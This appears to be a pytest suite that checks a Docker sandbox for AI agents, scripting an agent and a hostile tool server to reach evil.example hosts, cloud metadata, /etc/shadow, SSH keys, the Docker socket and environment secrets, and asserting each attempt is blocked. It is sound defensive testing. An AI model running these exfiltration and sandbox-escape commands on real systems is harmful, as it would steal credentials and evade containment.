"""Rows 10 and 44 to 81: Experts in containers, by a real engine, a real proxy, real refusals.

Two jobs do all of it: one Expert reaches for what it may not have by commands, one by the tools of
a server that is hostile. Each row looks at what its calls came to, and at what arrived anywhere:
the tests' internet resolves every name and answers at every address, so what is missing was
blocked.
"""

from __future__ import annotations

import json
import os
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

import anyio
import pytest

from tests.fakes.cli import ANTHROPIC_KEY, Ran, by_expert, calls, finishes, is_subsequence
from tests.fakes.docker_images import ROOT_HASH
from tests.fakes.docker_world import (
    HOST_AWS_SECRET,
    HOST_GITHUB_TOKEN,
    HOST_SSH_KEY,
    DockerWorld,
    results_of,
)
from tests.fakes.internet import INTRANET_SECRET, METADATA_SECRET, Arrival
from tests.fakes.model_server import Answer
from tests.fakes.model_wire import Call

pytestmark = [pytest.mark.long, pytest.mark.timeout(900), pytest.mark.xdist_group("docker")]

TOML: Final = """
[experts."commands"]
instruction = "You are commands."

[experts."listed"]
instruction = "You are listed."
delegates = ["helper"]
[experts."listed".skills."one"]
type = "mcpStdioSkill"
command = "python3"
args = ["hostile_tools.py"]
pick = ["echo"]
allowedDomains = ["api.first.example", "rebound.example", "rebound-metadata.example"]
[experts."listed".skills."two"]
type = "mcpStdioSkill"
command = "python3"
args = ["hostile_tools.py"]
omit = ["echo"]
allowedDomains = ["api.second.example", "httpbin.org", "*.wild.example"]

[experts."helper"]
description = "Helps."
instruction = "You are helper."
[experts."helper".skills."three"]
type = "mcpStdioSkill"
command = "python3"
args = ["hostile_tools.py"]
pick = ["echo"]
allowedDomains = ["api.delegate.example"]
"""
CURL: Final = ("curl", "-sS", "-k", "-m", "8", "-w", "\n%{http_code}\n")
BLOCKED: Final = ("403", "CONNECT tunnel failed", "Forbidden", "unable to connect", "refused")


@dataclass(frozen=True, slots=True)
class Played:
    """A job in a container that ended: what it printed, its calls' results, what arrived."""

    ran: Ran
    results: dict[str, str]
    came: list[Arrival]
    folder: Path

    def went(self, name: str) -> bool:
        """Whether anything arrived for the sake of a name: a question, or a request."""
        return any(name in each.name or name in each.text for each in self.came)

    def tried(self, call: str) -> list[dict[str, Any]]:
        """What came of each way that a hostile tool tried."""
        return json.loads(self.results[call])["tried"]


def execs(row: str, command: str, *args: str, **more: object) -> Call:
    return Call("exec", {"command": command, "args": list(args), **more}, row)


def curls(row: str, *words: str) -> Call:
    return execs(row, *CURL, *words)


def curls_without(row: str, url: str) -> Call:
    """Reach for an address past the proxy."""
    return curls(row, "--noproxy", "*", url)


BY_COMMANDS: Final = (
    curls("row-44", "https://row44.evil.example/"),
    curls("row-45", "https://api.anthropic.com/"),
    curls("row-46", "http://api.anthropic.com/row46"),
    curls_without("row-46-past", "http://203.0.113.66/row46"),
    execs("row-47", "cat", "/etc/shadow"),
    execs("row-48", "cat", "../../../../etc/shadow", "../../../../root/.ssh/id_ed25519"),
    execs("row-49", "sh", "-c", "cat ~/.ssh/* /root/.ssh/* /home/*/.ssh/* {home}/.ssh/*"),
    execs("row-50", "sudo", "-n", "id"),
    execs("row-51", "curl", "-sS", "--unix-socket", "/var/run/docker.sock", "http://x/version"),
    execs("row-52", "env"),
    execs("who", "sh", "-c", "id; cat /proc/self/status; touch /usr/here; touch /etc/here; mount"),
    execs("write", "sh", "-c", "echo kept > made.txt; touch /tmp/in-tmp && echo tmp is there"),
)


def hostile(row: str, tool: str, **args: str) -> Call:
    return Call(tool, args, row)


BY_CURL_LISTED: Final = (
    curls("row-53", "https://api.first.example/row53"),
    curls("row-54", "https://row54.evil.example/"),
    curls("row-55", "https://api.anthropic.com/"),
    curls("row-56-first", "https://api.first.example/row56"),
    curls("row-56-second", "https://api.second.example/row56"),
    curls("row-57", "https://row57.evil.example/"),
    curls("delegates", "https://api.delegate.example/delegates"),
    curls("wild", "https://deep.wild.example/wild"),
    curls("not-wild", "https://notwild.example/"),
    curls("rebound", "https://rebound.example/"),
    curls("rebound-metadata", "https://rebound-metadata.example/"),
    curls("port", "https://api.first.example:8443/port"),
    curls("ipv6", "https://[2001:db8::1]/", "https://[fd00:ec2::254]/", "https://[::1]/"),
)
BY_TOOLS: Final = (
    hostile("row-58", "fetch_metadata", provider="aws"),
    hostile("row-59", "fetch_metadata", provider="gcp"),
    hostile("row-60", "fetch_metadata", provider="azure"),
    hostile("row-61", "access_internal", target="localhost"),
    hostile("row-62", "access_internal", target="docker_host"),
    hostile("row-63", "access_internal", target="kubernetes"),
    hostile("row-64", "access_internal", target="metadata_ip"),
    hostile("row-65", "read_sensitive", target="proc_environ"),
    hostile("row-66", "read_sensitive", target="shadow"),
    hostile("row-67", "read_sensitive", target="ssh_keys"),
    hostile("row-68", "read_sensitive", target="aws_credentials"),
    hostile("row-69", "read_sensitive", target="docker_socket"),
    hostile("row-70", "symlink_attack", target="/etc/passwd"),
    hostile("row-71", "symlink_attack", target="/etc/shadow"),
)
BY_MORE_TOOLS: Final = (
    hostile("row-72", "symlink_attack", target="{home}/.ssh/id_ed25519"),
    hostile("row-73", "bypass_proxy", url="https://row73.evil.example/"),
    hostile("row-74", "list_env"),
    hostile("row-75", "exfiltrate_data", url="https://row75.evil.example/", data="row75-data"),
    hostile("row-76", "fetch_arbitrary", url="https://row76.evil.example/"),
    hostile("row-77", "http_get", url="https://httpbin.org/row77"),
    hostile("row-78", "http_get", url="https://row78.evil.example/"),
    hostile("row-79", "dns_exfiltrate", data="row79-secret"),
    hostile("row-80", "harvest_and_exfiltrate_env", url="https://row80.evil.example/"),
    hostile("row-81", "harvest_and_exfiltrate_env", url="https://httpbin.org/row81"),
    hostile("echo", "echo", message="still here"),
)


def placed(made: Sequence[Call], home: Path) -> Answer:
    """A reply with these calls, where `{home}` is the folder of the host's user."""
    text = json.dumps([[call.name, call.args, call.id] for call in made])
    filled = json.loads(text.replace("{home}", str(home)))
    return calls(*(Call(name, args, id_) for name, args, id_ in filled))


def play(world: DockerWorld, folder: Path, expert: str, said: Sequence[Answer]) -> Played:
    async def all_of_it() -> Ran:
        program = world.program(folder, TOML)
        async with world.vendor(by_expert({expert: said})):
            return await program.run("run", expert, "Go", "--runtime", "docker")

    before = len(world.internet.came())
    ran = anyio.run(all_of_it)
    assert ran.code == 0, ran.stderr[-4000:]
    results = {call: printed(text) for call, text in results_of(ran).items()}
    return Played(ran, results, world.internet.came()[before:], folder)


def printed(text: str) -> str:
    """Return what a command printed, if that is what the text tells of, or the text itself."""
    if not text.startswith(('{"error"', '{"output"', '{"stdout"')):
        return text
    told: dict[str, Any] = json.loads(text)
    return "\n".join(str(value) for value in told.values())


@pytest.fixture(scope="module")
def commanded(containers: DockerWorld, tmp_path_factory: pytest.TempPathFactory) -> Played:
    """A job whose Expert uses commands; its workspace is root's, as the user is."""
    said = [placed(BY_COMMANDS, containers.home), *finishes("Tried everything.")]
    return play(containers, tmp_path_factory.mktemp("commanded"), "commands", said)


@pytest.fixture(scope="module")
def attacked(containers: DockerWorld, tmp_path_factory: pytest.TempPathFactory) -> Played:
    """A job whose Expert has skills with lists, one of them hostile; its workspace is a user's."""
    folder = tmp_path_factory.mktemp("attacked")
    os.chown(folder, 1000, 1000)
    attacks = (BY_CURL_LISTED, BY_TOOLS, BY_MORE_TOOLS)
    said = [*(placed(made, containers.home) for made in attacks), *finishes("Tried everything.")]
    return play(containers, folder, "listed", said)


def is_blocked(text: str) -> bool:
    return any(sign in text for sign in BLOCKED)


def assert_nothing_got_out(played: Played, call: str) -> None:
    """Check that no way of a hostile tool worked, and that each was tried."""
    ways = played.tried(call)
    assert ways
    assert not [way for way in ways if way["success"]]
    assert '"success": true' not in played.results[call]


def assert_no_secrets(text: str) -> None:
    for secret in (HOST_AWS_SECRET, HOST_GITHUB_TOKEN, HOST_SSH_KEY, ROOT_HASH, ANTHROPIC_KEY):
        assert secret not in text
    assert METADATA_SECRET not in text
    assert INTRANET_SECRET not in text


# ---------------------------------------------------------------- by commands


def test_row_10_a_job_in_a_container_begins_and_completes(commanded: Played) -> None:
    assert commanded.ran.code == 0
    assert is_subsequence(["startRun", "callTools", "completeRun"], commanded.ran.types())
    assert commanded.ran.one("completeRun")["text"] == "Tried everything."


def test_row_44_a_domain_that_is_not_listed_is_blocked(commanded: Played) -> None:
    assert is_blocked(commanded.results["row-44"])
    assert not commanded.went("row44.evil.example")


def test_row_45_the_providers_domain_is_reached(commanded: Played) -> None:
    assert not is_blocked(commanded.results["row-45"])


def test_row_46_plain_http_is_blocked(commanded: Played) -> None:
    assert is_blocked(commanded.results["row-46"])
    assert not commanded.went("row46")
    assert not [each for each in commanded.came if each.port == 80]
    assert "\n000\n" in commanded.results["row-46-past"]


def test_row_47_nobody_reads_the_shadow_file(commanded: Played) -> None:
    assert "Permission denied" in commanded.results["row-47"]
    assert ROOT_HASH not in commanded.results["row-47"]


def test_row_48_no_way_leads_up_and_out_of_the_workspace(commanded: Played) -> None:
    said = commanded.results["row-48"]
    assert "Permission denied" in said
    assert_no_secrets(said)


def test_row_49_the_hosts_ssh_keys_are_not_there(commanded: Played) -> None:
    assert "PRIVATE KEY" not in commanded.results["row-49"]
    assert "No such file" in commanded.results["row-49"]


def test_row_50_sudo_gives_no_rights(commanded: Played) -> None:
    said = commanded.results["row-50"]
    assert "uid=0" not in said
    assert "sudo" in said


def test_row_51_the_engines_socket_is_not_there(commanded: Played) -> None:
    said = commanded.results["row-51"]
    assert "ApiVersion" not in said
    assert "connect" in said


def test_row_52_no_secret_of_the_host_is_in_the_environment(commanded: Played) -> None:
    said = commanded.results["row-52"]
    assert "PATH=" in said
    for name in ("AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "SSH_AUTH_SOCK", "DOCKER_HOST"):
        assert name not in said
    assert_no_secrets(said)


def test_a_container_has_no_capabilities_and_writes_to_its_workspace_alone(
    commanded: Played,
) -> None:
    said = commanded.results["who"]
    assert "CapEff:\t0000000000000000" in said
    assert "CapBnd:\t0000000000000000" in said
    assert "NoNewPrivs:\t1" in said
    assert said.count("Read-only file system") == 2
    assert "tmp is there" in commanded.results["write"]
    assert (commanded.folder / "made.txt").read_text() == "kept\n"


# ---------------------------------------------------------------- lists of domains


def test_row_53_a_domain_that_a_skill_lists_is_reached(attacked: Played) -> None:
    assert "welcome" in attacked.results["row-53"]
    assert attacked.went("row53")


def test_row_54_a_domain_that_no_skill_lists_is_blocked(attacked: Played) -> None:
    assert is_blocked(attacked.results["row-54"])
    assert not attacked.went("row54.evil.example")


def test_row_55_the_providers_domain_is_reached_beside_lists(attacked: Played) -> None:
    assert not is_blocked(attacked.results["row-55"])


def test_row_56_the_lists_of_two_skills_are_one(attacked: Played) -> None:
    assert "welcome" in attacked.results["row-56-first"]
    assert "welcome" in attacked.results["row-56-second"]


def test_row_57_what_neither_of_two_lists_has_is_blocked(attacked: Played) -> None:
    assert is_blocked(attacked.results["row-57"])
    assert not attacked.went("row57.evil.example")


def test_domains_of_delegates_and_below_wildcards_are_reached(attacked: Played) -> None:
    assert "welcome" in attacked.results["delegates"]
    assert "welcome" in attacked.results["wild"]
    assert is_blocked(attacked.results["not-wild"])


def test_a_listed_name_that_leads_to_a_private_address_is_blocked(attacked: Played) -> None:
    for call in ("rebound", "rebound-metadata", "port", "ipv6"):
        assert is_blocked(attacked.results[call])
        assert_no_secrets(attacked.results[call])
    reached = {each.address for each in attacked.came if each.kind != "name"}
    assert {each for each in reached if not each.startswith("203.0.113.")} == set()
    assert {each.port for each in attacked.came if each.kind == "connection"} == {443}


# ---------------------------------------------------------------- a hostile server


def test_row_58_metadata_of_aws_is_not_reached(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-58")


def test_row_59_metadata_of_google_is_not_reached(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-59")


def test_row_60_metadata_of_azure_is_not_reached(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-60")


def test_row_61_localhost_has_nothing_to_reach(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-61")


def test_row_62_the_engines_machine_is_not_reached(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-62")
    assert not [each for each in attacked.came if each.side == "host" and each.kind != "name"]


def test_row_63_kubernetes_is_not_reached(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-63")


def test_row_64_the_metadata_address_is_not_reached(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-64")
    reached = [each for each in attacked.came if each.kind != "name"]
    assert not [each for each in reached if each.address.startswith("169.254.")]


def test_row_65_no_process_tells_the_keys(attacked: Played) -> None:
    said = attacked.results["row-65"]
    assert "PATH=" in said
    assert "ANTHROPIC_API_KEY=sk-" not in said
    assert_no_secrets(said)


def test_row_66_a_server_cannot_read_the_shadow_file(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-66")


@pytest.mark.parametrize("call", ["row-67", "row-68"])
def test_rows_67_and_68_there_are_no_ssh_keys_and_no_credentials(
    attacked: Played, call: str
) -> None:
    assert not [way for way in attacked.tried(call) if way["success"]]
    assert_no_secrets(attacked.results[call])


def test_row_69_a_server_cannot_reach_the_engines_socket(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-69")


def test_row_70_a_link_to_passwd_shows_the_containers_own(attacked: Played) -> None:
    (way,) = attacked.tried("row-70")
    assert "root:x:0:0:" in way["got"]
    mine = {line.split(":")[0] for line in Path("/etc/passwd").read_text().splitlines()}
    theirs = {line.split(":")[0] for line in way["got"].splitlines() if line}
    assert theirs != mine


def test_row_71_a_link_to_the_shadow_file_is_denied(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-71")
    assert "Permission" in attacked.results["row-71"]


def test_row_72_a_link_to_a_file_of_the_host_leads_nowhere(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-72")
    assert_no_secrets(attacked.results["row-72"])


def test_row_73_no_words_lead_past_the_proxy(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-73")
    assert not attacked.went("row73")


def test_row_74_the_environment_of_a_server_holds_no_secret(attacked: Played) -> None:
    said = attacked.results["row-74"]
    assert "PATH" in said
    assert_no_secrets(said)
    assert "AWS_SECRET_ACCESS_KEY" not in said


def test_row_75_data_is_not_carried_out(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-75")
    assert not attacked.went("row75")


def test_row_76_an_address_that_is_not_listed_is_blocked(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-76")
    assert not attacked.went("row76")


def test_row_77_an_address_that_is_listed_is_reached(attacked: Played) -> None:
    (way,) = attacked.tried("row-77")
    assert way["success"]
    assert "welcome" in way["got"]
    assert attacked.went("row77")


def test_row_78_a_list_allows_what_it_lists_and_no_more(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-78")
    assert not attacked.went("row78")


def test_row_79_nothing_is_carried_out_by_names(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-79")
    assert not attacked.went(b"row79-secret".hex())


def test_row_80_the_environment_is_not_carried_out(attacked: Played) -> None:
    assert_nothing_got_out(attacked, "row-80")
    assert not attacked.went("row80")


def test_row_81_what_a_listed_place_is_sent_holds_no_secret_of_the_host(attacked: Played) -> None:
    (sent,) = [each for each in attacked.came if "row81" in each.text]
    assert "PATH" in sent.text
    assert_no_secrets(sent.text)


def test_a_hostile_server_serves_on_and_its_job_completes(attacked: Played) -> None:
    assert attacked.results["echo"] == "still here"
    assert attacked.ran.one("completeRun")["text"] == "Tried everything."


def test_nothing_of_the_containers_is_left(
    containers: DockerWorld, commanded: Played, attacked: Played
) -> None:
    assert commanded.ran.code == attacked.ran.code == 0
    assert containers.containers() == []
    assert containers.networks() == []
